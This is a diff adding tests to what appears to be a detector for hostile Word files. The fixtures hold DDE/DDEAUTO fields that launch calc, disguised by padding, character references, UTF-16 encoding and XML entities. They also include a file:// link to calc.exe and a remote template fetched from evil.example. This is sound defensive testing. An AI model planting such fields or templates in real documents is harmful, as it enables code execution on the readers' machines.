@@ -190,6 +190,33 @@ def test_a_dde_field_is_refused_even_split_over_runs() -> None:
     assert "holds a DDE field" in refusal("letter.docx", word(simple))
 
 
+def test_a_field_disguised_by_padding_character_references_or_another_encoding_is_still_found() -> None:
+    padded = f"<w:p><w:r><w:instrText>{' ' * 5000}DDEAUTO calc</w:instrText></w:r></w:p>"
+    assert "holds a DDEAUTO field" in refusal("letter.docx", word(padded))
+    referenced = '<w:p><w:fldSimple w:instr="&#68;&#x44;E calc"/></w:p>'
+    assert "holds a DDE field" in refusal("letter.docx", word(referenced))
+    body = (
+        '<?xml version="1.0" encoding="UTF-16"?><w:document><w:p><w:fldSimple w:instr="DDE calc"/></w:p></w:document>'
+    )
+    utf16 = zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": body.encode("utf-16")})
+    assert "holds a DDE field" in refusal("letter.docx", utf16)
+
+
+def test_a_part_declaring_entities_is_refused() -> None:
+    entities = (
+        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x "DDEAUTO calc">]>'
+        '<w:document><w:fldSimple w:instr="&x;"/></w:document>'
+    )
+    hostile = zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": entities.encode()})
+    assert "declares its own XML entities" in refusal("letter.docx", hostile)
+
+
+def test_a_link_target_written_with_character_references_is_read_as_a_program_reads_it() -> None:
+    rels = relationship("hyperlink", "&#102;ile:///C:/Windows/calc.exe")
+    hostile = word("<w:p/>", rels={"word/_rels/document.xml.rels": rels})
+    assert "“file:///C:/Windows/calc.exe”, which is not a web or e-mail address" in refusal("letter.docx", hostile)
+
+
 def test_a_template_fetched_from_outside_when_the_document_opens_is_refused() -> None:
     remote = word(
         "<w:p/>", rels={"word/_rels/settings.xml.rels": relationship("attachedTemplate", "http://evil.example/t.dotm")}
